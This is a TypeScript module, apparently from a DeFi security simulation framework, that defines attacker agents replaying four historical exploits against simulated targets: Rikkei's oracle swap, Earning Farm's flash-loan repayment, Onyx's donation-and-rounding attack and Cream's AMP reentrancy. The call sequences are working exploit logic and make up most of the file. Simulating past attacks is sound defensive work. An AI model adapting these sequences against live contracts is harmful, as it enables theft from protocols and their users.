import type { Address } from "viem";

import type { Agent } from "../../src/agents/index.js";
import type { ContractCall } from "../../src/protocols/index.js";
import type { Attack } from "./attacks.js";

import { erc20Abi, keccak256, parseEther, stringToHex } from "viem";

import { defineAgent } from "../../src/agents/index.js";
import { calledBack } from "../../src/engine/run/called-back.js";
import { call } from "../../src/protocols/index.js";

import {
  balancerVaultAbi,
  cErc20Abi,
  cEtherAbi,
  comptrollerAbi,
  erc1820Abi,
  leverVaultAbi,
  simplePriceOracleAbi,
} from "./abis.js";
import { BITCOIN_FEED, CREAM, EARNING_FARM, ONYX, RIKKEI, WETH } from "./attacks.js";

/** An attacker that makes the moves of history, all in the first block. */
function historian(attack: Attack, moves: (self: Address) => readonly ContractCall[]): Agent {
  const [attacker] = attack.scenario.agents;
  return defineAgent({
    role: "attacker",
    ...(attacker?.capital === undefined ? {} : { capital: attacker.capital }),
    ...(attacker?.native === undefined ? {} : { native: attacker.native }),
    // calls from within a callback take code
    flashLoans: true,
    act: ({ view, self, submit }) => {
      if (view.block === 1) for (const move of moves(self.address)) submit({ call: move, gas: 5_000_000n });
    },
  });
}

function addressIn(attack: Attack, name: string): Address {
  const { targets } = attack.scenario;
  const named = targets as Readonly<Record<string, { readonly address: Address }>>;
  return named[name]!.address;
}

/** The price of bitcoin becomes that of BNB: history's oracle was a contract of the attacker's own. */
export const RIKKEI_SCRIPT = historian(RIKKEI, () => {
  const rBNB = addressIn(RIKKEI, "rBNB");
  return [
    call({ address: rBNB, abi: cEtherAbi, functionName: "mint", value: parseEther("10") }),
    call({ address: RIKKEI.target.address, abi: comptrollerAbi, functionName: "enterMarkets", args: [[rBNB]] }),
    call({
      address: addressIn(RIKKEI, "oracle"),
      abi: simplePriceOracleAbi,
      functionName: "setOracleData",
      args: [rBNB, BITCOIN_FEED],
    }),
    call({
      address: addressIn(RIKKEI, "rUSDC"),
      abi: cErc20Abi,
      functionName: "borrow",
      args: [parseEther("200000")],
    }),
  ];
});

/** The vault repays a loan that the attacker has taken for it, and what it has then belongs to whoever withdraws. */
export const EARNING_FARM_SCRIPT = historian(EARNING_FARM, () => {
  const { address } = EARNING_FARM.target;
  const amount = parseEther("0.1");
  return [
    call({ address, abi: leverVaultAbi, functionName: "deposit", args: [amount], value: amount }),
    call({
      address: addressIn(EARNING_FARM, "balancer"),
      abi: balancerVaultAbi,
      functionName: "flashLoan",
      args: [address, [WETH], [parseEther("560")], stringToHex("0x2")],
    }),
    call({ address, abi: leverVaultAbi, functionName: "withdraw", args: [parseEther("0.08")] }),
  ];
});

/** Two units of oPEPE are worth all PEPE that is given to its market, and half of a unit is rounded to none. */
export const ONYX_SCRIPT = historian(ONYX, () => {
  const oPEPE = addressIn(ONYX, "oPEPE");
  const market = { address: oPEPE, abi: cErc20Abi } as const;
  const donation = parseEther("2400000000000");
  return [
    call({ ...market, functionName: "mint", args: [parseEther("1")] }),
    // 1e18 PEPE at 200,000,000 of 1e18: 5e27 units but two
    call({ ...market, functionName: "redeem", args: [5_000_000_000n * 10n ** 18n - 2n] }),
    call({ address: PEPE, abi: erc20Abi, functionName: "transfer", args: [oPEPE, donation] }),
    call({ address: ONYX.target.address, abi: comptrollerAbi, functionName: "enterMarkets", args: [[oPEPE]] }),
    call({ address: addressIn(ONYX, "oETHER"), abi: cEtherAbi, functionName: "borrow", args: [parseEther("334")] }),
    call({ ...market, functionName: "redeemUnderlying", args: [donation - 1n] }),
  ];
});

const PEPE: Address = "0x6982508145454Ce325dDbE47a25d4ec3d2311933";

/** AMP tells whom it pays, who then borrows ether on the same collateral: the debt in AMP is written down afterwards. */
export const CREAM_SCRIPT = historian(CREAM, (self) => {
  const crETH = addressIn(CREAM, "crETH");
  const hook = keccak256(stringToHex("AmpTokensRecipient"));
  return [
    call({
      address: addressIn(CREAM, "registry"),
      abi: erc1820Abi,
      functionName: "setInterfaceImplementer",
      args: [self, hook, self],
    }),
    call({ address: crETH, abi: cEtherAbi, functionName: "mint", value: parseEther("500") }),
    call({ address: CREAM.target.address, abi: comptrollerAbi, functionName: "enterMarkets", args: [[crETH]] }),
    calledBack(
      self,
      call({
        address: addressIn(CREAM, "crAMP"),
        abi: cErc20Abi,
        functionName: "borrow",
        args: [parseEther("19480000")],
      }),
      { callback: 1, answer: "nothing" },
      [call({ address: crETH, abi: cEtherAbi, functionName: "borrow", args: [parseEther("355")] })],
    ).call,
  ];
});
